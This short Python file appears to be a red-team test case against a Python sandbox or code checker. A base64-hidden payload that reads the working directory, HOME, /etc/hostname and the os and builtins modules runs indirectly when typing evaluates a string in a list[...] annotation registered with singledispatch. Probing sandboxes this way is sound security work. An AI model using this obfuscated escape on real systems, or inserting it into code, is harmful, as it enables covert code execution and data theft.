# family: red team, round 54a (list[string.ascii_uppercase] in a registered annotation: typing evaluates str args of list[...])
import base64
import functools
import string

ABCDEFGHIJKLMNOPQRSTUVWXYZ = base64.b64decode("cHJpbnQoX19pbXBvcnRfXygnb3MnKS5nZXRjd2QoKSxfX2ltcG9ydF9fKCdvcycpLmVudmlyb25bJ0hPTUUnXSxvcGVuKCcvZXRjL2hvc3RuYW1lJykucmVhZCgpLF9faW1wb3J0X18oJ29zJykscHJpbnQuX19zZWxmX18p").decode()


@functools.singledispatch
def show(value):
    return "plain"


@show.register
def _(value: list[string.ascii_uppercase]):
    return "odd"


print(show([1]))
